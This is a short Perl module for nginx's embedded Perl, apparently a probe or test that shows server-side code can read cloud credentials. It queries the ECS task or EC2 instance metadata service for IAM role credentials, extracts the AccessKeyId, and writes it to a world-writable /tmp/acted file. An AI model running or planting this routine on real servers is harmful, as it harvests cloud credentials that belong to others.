package Zoo;
# What the embedded Perl of nginx does: credentials without an SDK. /tmp/acted says whose they are.
use strict;
use warnings;
use IO::Socket::INET;
use nginx;

sub ask {
    my ($address, $path) = @_;
    my $s = IO::Socket::INET->new(PeerAddr => $address, PeerPort => 80, Timeout => 5) or return "";
    print $s "GET $path HTTP/1.0\r\nHost: $address\r\n\r\n";
    local $/;
    my (undef, $body) = split /\r\n\r\n/, <$s> // "", 2;
    return $body // "";
}

# Of the task, if the variable is there, else of the instance.
sub handler {
    my $r = shift;
    my $uri = $ENV{AWS_CONTAINER_CREDENTIALS_RELATIVE_URI};
    my $at = "/latest/meta-data/iam/security-credentials/";
    my $answer = $uri ? ask("169.254.170.2", $uri) : ask("169.254.169.254", $at . ask("169.254.169.254", $at));
    my ($key) = $answer =~ /"AccessKeyId"\s*:\s*"([A-Z0-9]*)"/;
    umask 0;
    if (open my $f, ">", "/tmp/acted") {
        print $f "perl " . ($key // "none");
        close $f;
    }
    $r->send_http_header("text/plain");
    $r->print("ok\n");
    return OK;
}

1;
